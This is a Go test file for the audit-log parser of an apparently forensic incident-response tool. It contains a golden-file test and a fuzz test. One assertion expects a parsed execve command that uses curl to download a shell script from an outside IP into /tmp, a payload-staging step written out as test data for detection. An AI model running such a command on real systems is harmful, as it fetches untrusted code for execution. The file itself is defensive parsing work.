package logs

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/testutil"
)

func TestAuditGolden(t *testing.T) {
	b, err := os.ReadFile("testdata/audit/audit.log")
	if err != nil {
		t.Fatal(err)
	}
	tg := writeRoot(t,
		logFile{name: "var/log/audit/audit.log", text: string(b)},
		logFile{name: "etc/passwd", text: "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"})
	src, _ := Rotated(tg, "/var/log/audit/audit.log", FormatAudit)
	evs, cov, _ := readAll(t, tg, src, Options{})
	cov.Name = ""
	testutil.Golden(t, "testdata/audit/audit.golden", goldenEvents(t, evs, cov))
	var exec bool
	for _, ev := range evs {
		if ev.Kind == "audit.execve" {
			exec = true
			if ev.Fields["command"] != "curl -fsSL http://203.0.113.9/x.sh -o /tmp/x.sh" || ev.Actor != "alice" || ev.Fields["cwd"] != "/root" || strings.Count(ev.Raw, "\n") != 6 {
				t.Errorf("execve event %+v", ev)
			}
		}
	}
	if !exec || cov.Unparsed != 2 {
		t.Errorf("exec %v, coverage %+v", exec, cov)
	}
}

func FuzzAudit(f *testing.F) {
	b, _ := os.ReadFile("testdata/audit/audit.log")
	f.Add(string(b))
	for _, l := range strings.Split(string(b), "\n") {
		f.Add(l)
	}
	f.Fuzz(func(t *testing.T, text string) {
		evs, cov := parseText(t, Source{Format: FormatAudit}, text, time.UTC)
		if cov.Parsed+cov.Unparsed != cov.Lines || int64(len(evs)) != cov.Events || int64(len(evs)) > cov.Parsed {
			t.Fatalf("coverage %+v, %d events", cov, len(evs))
		}
	})
}
